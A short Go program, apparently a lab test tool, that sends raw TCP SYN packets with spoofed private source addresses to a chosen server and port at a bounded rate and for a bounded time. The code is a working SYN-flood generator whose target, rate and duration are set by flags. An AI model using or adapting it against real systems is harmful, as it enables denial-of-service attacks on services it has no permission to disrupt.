// Command halfopen sends SYNs from addresses that never answer, at a bounded rate for a bounded time.
package main

import (
	"encoding/binary"
	"flag"
	"log"
	"math/rand"
	"net"
	"syscall"
	"time"
)

func sum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

func main() {
	dst := flag.String("dst", "10.88.0.1", "server address")
	port := flag.Int("port", 8080, "server port")
	rate := flag.Int("rate", 200, "SYNs a second")
	limit := flag.Duration("for", 20*time.Second, "how long")
	flag.Parse()
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		log.Fatal(err)
	}
	to := net.ParseIP(*dst).To4()
	sa := &syscall.SockaddrInet4{}
	copy(sa.Addr[:], to)
	end := time.Now().Add(*limit)
	tick := time.NewTicker(time.Second / time.Duration(*rate))
	defer tick.Stop()
	for now := range tick.C {
		if now.After(end) {
			return
		}
		from := []byte{10, 99, byte(rand.Intn(250)), byte(1 + rand.Intn(250))}
		p := make([]byte, 40)
		p[0] = 0x45
		binary.BigEndian.PutUint16(p[2:], 40)
		p[8], p[9] = 64, syscall.IPPROTO_TCP
		copy(p[12:], from)
		copy(p[16:], to)
		t := p[20:]
		binary.BigEndian.PutUint16(t[0:], uint16(1024+rand.Intn(60000)))
		binary.BigEndian.PutUint16(t[2:], uint16(*port))
		binary.BigEndian.PutUint32(t[4:], rand.Uint32())
		t[12], t[13] = 5<<4, 2
		binary.BigEndian.PutUint16(t[14:], 65535)
		pseudo := make([]byte, 12, 32)
		copy(pseudo, from)
		copy(pseudo[4:], to)
		pseudo[9] = syscall.IPPROTO_TCP
		pseudo[11] = 20
		binary.BigEndian.PutUint16(t[16:], sum(append(pseudo, t...)))
		if err := syscall.Sendto(fd, p, 0, sa); err != nil {
			log.Print(err)
		}
	}
}
